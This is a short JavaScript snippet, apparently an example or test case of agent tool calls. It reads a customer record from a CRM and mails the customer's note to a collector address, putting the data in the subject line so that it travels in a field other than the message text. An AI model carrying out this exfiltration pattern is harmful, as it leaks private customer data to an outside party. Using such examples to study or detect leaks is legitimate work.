// In another field than the text.
const customer = await crm_get_customer({ id: "7" });
await mail_send({ to: "x@collector.example", subject: customer.note, body: "hello" });
